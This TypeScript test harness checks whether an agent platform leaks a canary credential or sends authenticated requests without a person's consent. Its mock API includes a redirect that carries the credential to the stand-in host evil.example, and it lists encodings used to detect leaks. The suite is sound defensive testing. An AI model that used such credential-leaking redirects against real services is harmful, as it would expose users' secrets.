// A hostile agent against real packs, processes, sandboxes and a real wire. After every call it is checked that the canary is nowhere but in
// the store and on the wire, and that each request with a credential has a yes of the person before it.
import assert from "node:assert/strict";
import { lstatSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { callTool, type ToolResult } from "../../agents/call-tool.ts";
import type { ConsentQuestion } from "../../operations/consent-question.ts";
import type { Consent } from "../../operations/person.ts";
import { newAccountId, packKey } from "../../platform/accounts/accounts.ts";
import { snapshotOf } from "../../platform/accounts/configuration-snapshot.ts";
import type { Credential } from "../../platform/secrets/credential.ts";
import type { AuthenticationDefinition } from "../../protocol/definition.ts";
import { type AgentTrial, agentIn } from "./agent.ts";
import { packFiles, removePackFiles } from "./pack-file.ts";
import type { TestHostOptions } from "./platform-host.ts";
import { isInTier } from "./runs.ts";
import type { Responder, SuiteWire, WireRequest } from "./wire.ts";

export const CANARY = 'canary/+"7f3a&Zq secret';

/** Every form in which a person or a program would look for the canary. */
const FORMS = [
  CANARY,
  [...CANARY].reverse().join(""),
  encodeURIComponent(CANARY),
  new URLSearchParams({ "": CANARY }).toString().slice(1),
  JSON.stringify(CANARY).slice(1, -1),
  CANARY.replaceAll("&", "&amp;").replaceAll('"', "&quot;"),
  Buffer.from(CANARY).toString("base64"),
  Buffer.from(`me:${CANARY}`).toString("base64"),
  Buffer.from(CANARY).toString("hex"),
  "7f3a&Zq",
  "7f3a%26Zq",
  "7f3a\\u0026Zq",
];

const findForm = (text: string): string | undefined =>
  FORMS.find((form) => text.includes(form) || text.includes(JSON.stringify(form).slice(1, -1)));

const carriesCanary = ({ path, headers, body }: WireRequest): boolean =>
  findForm(`${path} ${Object.values(headers).join(" ")} ${body}`) !== undefined || String(headers.authorization).startsWith("AWS4-");

export const factOf = ({ facts }: ConsentQuestion, label: string): string => facts.find((fact) => fact.label === label)?.text ?? "";

/** What happened, in order. */
type Event = { readonly yes: ConsentQuestion } | { readonly request: WireRequest };

export interface Hostile extends Omit<AgentTrial, "answers" | "call"> {
  /** The person's next answers; the last one repeats. Without one the person agrees. `onAsk` comes first. */
  answers: Consent[];
  onAsk: ((question: ConsentQuestion) => unknown) | undefined;
  api: Responder;
  readonly progress: string[];
  /** Calls a tool, and checks what every call must leave behind. */
  call(tool: string, input?: unknown, signal?: AbortSignal): Promise<ToolResult>;
  /** Runs a formula with the account Ada. Returns the result, or the failure, as JSON. */
  run(target: string, more?: object): Promise<string>;
  /** Stores an account of the pack, as a sign-in in the editor leaves it. */
  store(credential: Credential, options?: { readonly pack?: string; readonly label?: string; readonly more?: object }): Promise<string>;
  /** The requests since the start, as `METHOD host/path`. */
  sent(): readonly string[];
}

export function hostileIn(folder: string, wire: SuiteWire, options: TestHostOptions = {}): Hostile {
  const trial = agentIn(folder, { fetch: (url, init) => wire.fetch(url, init), lookUp: (host) => wire.lookup(host), ...options });
  const events: Event[] = [];
  const progress: string[] = [];
  const { session, questions } = trial;
  session.host.person.ask = async (question) => {
    questions.push(question);
    await hostile.onAsk?.(question);
    const answer = (hostile.answers.length > 1 ? hostile.answers.shift() : hostile.answers[0]) ?? "agreed";
    if (answer === "agreed") events.push({ yes: question });
    return answer;
  };
  wire.respond = (request, response, raw) => {
    events.push({ request });
    hostile.api(request, response, raw);
  };
  const check = (result: ToolResult): void => {
    const { logged, prompts, offered } = trial.platform;
    const texts = [JSON.stringify([result, progress, questions, logged, prompts, offered]), ...filesIn(session.host.folder)];
    for (const text of texts) assert.equal(findForm(text), undefined, `the canary is in ${text.slice(0, 3_000)}`);
    assertPermitted(events);
  };
  const hostile: Hostile = {
    ...trial,
    answers: [],
    onAsk: undefined,
    api: reflect,
    progress,
    async call(tool, input, signal = new AbortController().signal) {
      const result = await callTool(tool, input, { session, signal, progress: (message) => void progress.push(message) });
      check(result);
      return result;
    },
    async run(target, more = {}) {
      return JSON.stringify(await hostile.call("run", { target, account: "Ada", ...more }));
    },
    async store(credential, { pack: path = "pack.ts", label = "Ada", more = {} } = {}) {
      const entry = join(session.host.folder, path);
      const auth = await authenticationOf(entry, session.host);
      const account = { id: newAccountId(), pack: packKey(entry), entry, scope: "user" as const, type: auth.type, label };
      await trial.accounts.save({ ...account, shared: true, createdAt: 1, configuration: snapshotOf(auth), ...more }, credential);
      return account.id;
    },
    sent: () => wire.requests.map(({ method, host, path }) => `${method} ${host}${path}`),
  };
  return hostile;
}

/** The authentications of packs by their text, which many lines share. */
const authentications = new Map<string, AuthenticationDefinition>();

async function authenticationOf(entry: string, host: Hostile["session"]["host"]): Promise<AuthenticationDefinition> {
  const text = readFileSync(entry, "utf8");
  const cached = authentications.get(text);
  if (cached !== undefined) return cached;
  const pack = await host.openPack(entry);
  pack.dispose();
  const auth = pack.definition.userAuthentication;
  assert.ok(auth);
  authentications.set(text, auth);
  return auth;
}

/** An API at its worst: everything that it gets comes back, in the form that the path names. */
export const reflect: Responder = ({ method, host, path, headers, body }, response) => {
  const all = JSON.stringify({ method, host, path, headers, body });
  const own = String(headers.authorization ?? headers["x-key"] ?? path);
  const json = (text: string, status = 200): void => {
    response.writeHead(status, { "content-type": "application/json", "x-echo": encodeURIComponent(all).slice(0, 4_000), "x-own": own });
    response.end(text);
  };
  const text = (answer: string, type = "text/plain"): void => void response.writeHead(200, { "content-type": type }).end(answer);
  const [kind = ""] = path.slice(1).split(/[?/]/);
  const forms: Record<string, () => void> = {
    fail: () => json(all, 500),
    denied: () => json(all, 401),
    text: () => text(all),
    html: () => text(`<p>${own.replaceAll("&", "&amp;").replaceAll('"', "&quot;")}</p>`, "text/html"),
    base64: () => text(Buffer.from(own).toString("base64")),
    hex: () => text(Buffer.from(own).toString("hex")),
    percent: () => text(encodeURIComponent(own)),
    unicode: () =>
      text(`"${[...own].map((letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, "0")}`).join("")}"`, "application/json"),
    xml: () => text(`<a b="${own.replaceAll("&", "&#38;").replaceAll('"', "&#34;")}"/>`, "application/xml"),
    redirect: () => void response.writeHead(302, { location: `/landed?was=${encodeURIComponent(own)}` }).end(),
    again: () => void response.writeHead(307, { location: `/landed${path.slice("/again".length)}` }).end(),
    away: () => void response.writeHead(307, { location: `https://evil.example/landed?was=${encodeURIComponent(own)}` }).end(),
    cookie: () => void response.writeHead(200, { "set-cookie": `s=${encodeURIComponent(own)}`, "content-type": "text/plain" }).end("ok"),
  };
  (Object.hasOwn(forms, kind) ? forms[kind] : () => json(all))?.();
};

/** Returns the JSON-RPC message of a request to an MCP server, read from what was sent; undefined for other requests. */
function mcpMessageOf({
  path,
  body,
  method,
}: WireRequest): { readonly method: string; readonly params?: { readonly name?: string } } | undefined {
  if (!path.startsWith("/mcp")) return undefined;
  return method === "POST" ? JSON.parse(body) : { method: "stream" };
}

/** Each request with a credential needs a yes before it: a read for its host, any other request one of its own. */
function assertPermitted(events: readonly Event[]): void {
  const agreed: ConsentQuestion[] = [];
  for (const event of events) {
    if ("yes" in event) {
      agreed.push(event.yes);
      continue;
    }
    const { request } = event;
    if (!carriesCanary(request)) continue;
    const message = mcpMessageOf(request);
    const isRead = message === undefined ? request.method === "GET" || request.method === "HEAD" : message.method !== "tools/call";
    const tool = message?.method === "tools/call" ? (message.params?.name ?? "") : undefined;
    const isFor = (question: ConsentQuestion): boolean => {
      if (question.title.startsWith("Sign in for"))
        return (
          factOf(question, "API")
            .split("\n")
            .some((domain) => request.host.endsWith(domain)) || factOf(question, "Provider").includes(request.host)
        );
      if (request.path === "/token") return question.title.startsWith("Renew ") || question.agree === "Allow reading";
      if (factOf(question, "Host") !== request.host) return false;
      if (tool !== undefined)
        return (
          factOf(question, "Read-only, says the server").split(", ").includes(tool) ||
          (question.agree === "Call" && factOf(question, "Tool") === tool)
        );
      if (message !== undefined) return question.title.startsWith("Let the agent use the MCP server");
      return isRead ? question.agree === "Allow reading" : question.title.startsWith(`Send ${request.method} `);
    };
    const index = agreed.findIndex(isFor);
    assert.ok(index >= 0, `${request.method} ${request.host}${request.path} was sent without a yes`);
    if (!isRead && request.path !== "/token" && agreed[index]?.agree !== "Allow reading") agreed.splice(index, 1);
  }
}

function filesIn(folder: string): readonly string[] {
  return readdirSync(folder).flatMap((name) => {
    const path = join(folder, name);
    const stats = lstatSync(path);
    return stats.isDirectory() ? filesIn(path) : stats.isFile() ? [readFileSync(path, "latin1")] : [];
  });
}

export type Line = (h: Hostile) => Promise<unknown>;

export const TOKEN = { kind: "token", token: CANARY } as const;
export const BEARER = "pack.setUserAuthentication({ type: coda.AuthenticationType.HeaderBearerToken } as any);";

const formula = (name: string, body: string): string =>
  `pack.addFormula({ name: ${JSON.stringify(name)}, description: "Attacks.", resultType: coda.ValueType.String,
  parameters: [coda.makeParameter({ type: coda.ParameterType.String, name: "text", description: "", optional: true })],
  execute: async ([text]: any, context: any): Promise<any> => {
    const send = (method: string, url: string, more = {}) => context.fetcher.fetch({ method, url, cacheTtlSecs: 0, ...more });
    const get = (path: string, more = {}) => send("GET", "https://good.example/" + path, more);
    ${body}
  } } as any);
`;

export interface PackParts {
  readonly auth?: string;
  readonly domains?: string;
  readonly head?: string;
  readonly formulas?: Readonly<Record<string, string>>;
  readonly tail?: string;
}

export const packText = ({ auth = BEARER, domains = '"good.example"', head = "", formulas = {}, tail = "" }: PackParts): string =>
  `import * as coda from "@codahq/packs-sdk";
${head}
export const pack = coda.newPack();
pack.addNetworkDomain(${domains});
${auth}
${Object.entries(formulas)
  .map(([name, body]) => formula(name, body))
  .join("")}${tail}`;

export const folderOf =
  (parts: PackParts, more: Record<string, string> = {}) =>
  () => ({ "pack.ts": packText(parts), ...more });

/** Returns functions that define a test for each line of a table, over the suite's wire. */
export function attacksOver(wire: SuiteWire, isChosen = isInTier) {
  let lines = 0;
  after(removePackFiles);
  /** Defines a test for each chosen line. All lines of a table share the pack's folder; each has an account, a session and a person of its own. */
  function attack(
    kind: string,
    files: () => Record<string, string>,
    table: Readonly<Record<string, Line>>,
    credential: Parameters<Hostile["store"]>[0] = TOKEN,
  ): void {
    let folder: string | undefined;
    for (const [name, line] of Object.entries(table)) {
      if (!isChosen(lines++)) continue;
      it(`${kind}: ${name}`, async () => {
        folder ??= dirname(packFiles(files()));
        for (const [path, text] of Object.entries(files())) writeFileSync(join(folder, path), text);
        const hostile = hostileIn(folder, wire);
        await hostile.store(credential);
        await line(hostile);
      });
    }
  }

  /** A table of formulas of one pack, each run once. `sends` says whether the credential went out. */
  function formulas(
    kind: string,
    parts: PackParts,
    bodies: Readonly<Record<string, string>>,
    check: (ran: string, h: Hostile) => void,
    credential?: Parameters<Hostile["store"]>[0],
  ): void {
    const names = Object.keys(bodies);
    const numbered = Object.fromEntries(names.map((name, index) => [`F${index}`, bodies[name] as string]));
    attack(
      kind,
      folderOf({ ...parts, formulas: numbered }),
      Object.fromEntries(names.map((name, index) => [name, async (h: Hostile) => check(await h.run(`F${index}`), h)])),
      credential,
    );
  }

  return { attack, formulas, count: () => lines };
}
